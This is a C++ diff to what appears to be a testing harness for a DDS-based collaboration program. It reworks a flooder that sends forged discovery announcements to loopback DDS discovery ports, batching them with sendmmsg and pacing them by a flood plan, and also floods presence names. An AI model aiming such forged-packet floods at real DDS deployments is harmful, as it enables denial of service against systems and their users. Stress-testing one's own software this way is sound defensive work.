@@ -1,8 +1,12 @@
 #include "collab/dds/attack.h"
 
+#include <algorithm>
 #include <array>
 #include <cstring>
+#include <memory>
+#include <span>
 #include <string_view>
+#include <vector>
 
 #include <arpa/inet.h>
 #include <sys/socket.h>
@@ -19,7 +23,7 @@ namespace tandem {
 namespace {
 
 constexpr std::int64_t kBeatEveryNs = 200'000'000;
-constexpr std::uint32_t kPrograms = 4;  // whose ports get packets
+constexpr std::uint32_t kPrograms = 4;  // the first, whose ports get packets
 
 struct NameOfAttack {
   Attack attack;
@@ -143,24 +147,116 @@ std::string ForgedAnnouncement(std::uint64_t program, const std::string& tag) {
       .get();
 }
 
-std::uint64_t FloodPackets(const DdsOptions& options, std::int64_t until_ns) {
-  const int out = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
-  const std::string tag = DiscoveryTag(options.session);
-  std::uint64_t sent = 0;
-  while (MonotonicNow_ns() < until_ns) {
-    const std::string packet = ForgedAnnouncement((options.peer << 20U) + sent, tag);
-    for (std::uint32_t program = 0; program < kPrograms; ++program) {
-      sockaddr_in to{};
-      to.sin_family = AF_INET;
-      to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
-      to.sin_port = htons(static_cast<std::uint16_t>(DiscoveryPort(options.domain, program)));
-      if (sendto(out, packet.data(), packet.size(), 0, reinterpret_cast<const sockaddr*>(&to),
-                 sizeof to) > 0) {
-        ++sent;
+/// Says when a flood is to end and when it is to wait.
+class FloodPace {
+ public:
+  explicit FloodPace(const FloodPlan& plan) : plan_(plan), begin_ns_(MonotonicNow_ns()) {}
+
+  /// Returns false when all that the plan asks for has been sent. Waits where the flood is ahead of
+  /// its plan.
+  bool GoesOn(std::uint64_t sent) const {
+    for (;;) {
+      const std::int64_t now_ns = MonotonicNow_ns();
+      const double gone_s = 1e-9 * static_cast<double>(now_ns - begin_ns_);
+      if (gone_s >= plan_.seconds || (plan_.most > 0 && sent >= plan_.most)) return false;
+      if (plan_.per_second <= 0 || static_cast<double>(sent) <= gone_s * plan_.per_second) {
+        return true;
       }
+      dds_sleepfor(DDS_USECS(50));
     }
   }
-  close(out);
+
+ private:
+  const FloodPlan plan_;
+  const std::int64_t begin_ns_;
+};
+
+/// A socket to a port of the loopback. The kernel tells it whether anybody listens there.
+class PortSocket {
+ public:
+  explicit PortSocket(std::uint32_t port)
+      : descriptor_(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0)) {
+    sockaddr_in to{};
+    to.sin_family = AF_INET;
+    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    to.sin_port = htons(static_cast<std::uint16_t>(port));
+    connect(descriptor_, reinterpret_cast<const sockaddr*>(&to), sizeof to);
+  }
+  ~PortSocket() { close(descriptor_); }
+  PortSocket(const PortSocket&) = delete;
+  PortSocket& operator=(const PortSocket&) = delete;
+
+  bool HasListener() const {
+    const char nothing = 0;
+    for (int i = 0; i < 2; ++i) {  // the refusal of the first comes with the second
+      if (send(descriptor_, &nothing, 1, 0) < 0) return false;
+    }
+    return true;
+  }
+  /// Returns how many of the messages went out.
+  std::uint64_t Send(std::span<mmsghdr> messages) const {
+    const int sent =
+        sendmmsg(descriptor_, messages.data(), static_cast<unsigned>(messages.size()), 0);
+    return sent > 0 ? static_cast<std::uint64_t>(sent) : 0;
+  }
+
+ private:
+  int descriptor_;
+};
+
+/// Announcements of ever new programs, many of them for one call of the kernel.
+class ForgedBatch {
+ public:
+  static constexpr std::size_t kSize = 32;
+
+  explicit ForgedBatch(const std::string& tag) {
+    constexpr std::uint64_t kMark = 0xA5C3960FF0695A3CU;
+    const std::string model = ForgedAnnouncement(kMark, tag);
+    const std::string mark = Bytes().Number(kMark, 8).get();
+    std::size_t at = model.find(mark);
+    for (; at != std::string::npos; at = model.find(mark, at + 1)) places_.push_back(at);
+    for (std::size_t i = 0; i < kSize; ++i) {
+      packets_[i] = model;
+      pieces_[i] = {packets_[i].data(), packets_[i].size()};
+      messages_[i].msg_hdr.msg_iov = &pieces_[i];
+      messages_[i].msg_hdr.msg_iovlen = 1;
+    }
+  }
+  /// The messages announce `count` programs from `first` on.
+  std::span<mmsghdr> Of(std::uint64_t first, std::size_t count) {
+    for (std::size_t i = 0; i < count; ++i) {
+      const std::uint64_t program = first + i;
+      for (const std::size_t at : places_) {
+        std::memcpy(packets_[i].data() + at, &program, sizeof program);
+      }
+    }
+    return std::span(messages_).first(count);
+  }
+
+ private:
+  std::vector<std::size_t> places_;  // of the program's number in a packet
+  std::array<std::string, kSize> packets_;
+  std::array<iovec, kSize> pieces_{};
+  std::array<mmsghdr, kSize> messages_{};
+};
+
+Result<std::uint64_t> FloodPackets(const DdsOptions& options, const FloodPlan& plan) {
+  std::vector<std::unique_ptr<PortSocket>> ports;
+  for (std::uint32_t program = 0; program < kPrograms; ++program) {
+    auto port = std::make_unique<PortSocket>(DiscoveryPort(options.domain, program));
+    if (port->HasListener()) ports.push_back(std::move(port));
+  }
+  if (ports.empty()) return Error{"no program of the domain is there to be flooded"};
+  ForgedBatch batch(DiscoveryTag(options.session));
+  const FloodPace pace(plan);
+  std::uint64_t program = options.peer << 20U;
+  std::uint64_t sent = 0;
+  while (pace.GoesOn(sent)) {
+    const std::uint64_t left = plan.most > 0 ? plan.most - sent : ForgedBatch::kSize;
+    const auto count = static_cast<std::size_t>(std::min<std::uint64_t>(left, ForgedBatch::kSize));
+    for (const auto& port : ports) sent += port->Send(batch.Of(program, count));
+    program += count;
+  }
   return sent;
 }
 
@@ -180,20 +276,20 @@ Result<Attack> AttackNamed(const std::string& name) {
   return Error{"there is no attack '" + name + "'"};
 }
 
-Result<std::uint64_t> Flood(Attack attack, const DdsOptions& options, double seconds) {
-  const auto length_ns = static_cast<std::int64_t>(1e9 * seconds);
-  if (attack == Attack::kPackets) return FloodPackets(options, MonotonicNow_ns() + length_ns);
+Result<std::uint64_t> Flood(Attack attack, const DdsOptions& options, const FloodPlan& plan) {
+  if (attack == Attack::kPackets) return FloodPackets(options, plan);
   Flooder flooder(options);
   if (const std::optional<Error> error = flooder.Open(options)) return *error;
   flooder.Presence("flood");
+  const FloodPace pace(plan);
   std::uint64_t sent = 0;
-  const std::int64_t until_ns = MonotonicNow_ns() + length_ns;
   std::int64_t beat_ns = 0;
-  for (std::int64_t now_ns = 0; (now_ns = MonotonicNow_ns()) < until_ns; ++sent) {
+  for (; pace.GoesOn(sent); ++sent) {
     if (attack == Attack::kNames) {
       flooder.Presence("flood-" + std::to_string(sent));
       continue;
     }
+    const std::int64_t now_ns = MonotonicNow_ns();
     if (now_ns - beat_ns > kBeatEveryNs) {
       flooder.Presence("flood");
       beat_ns = now_ns;
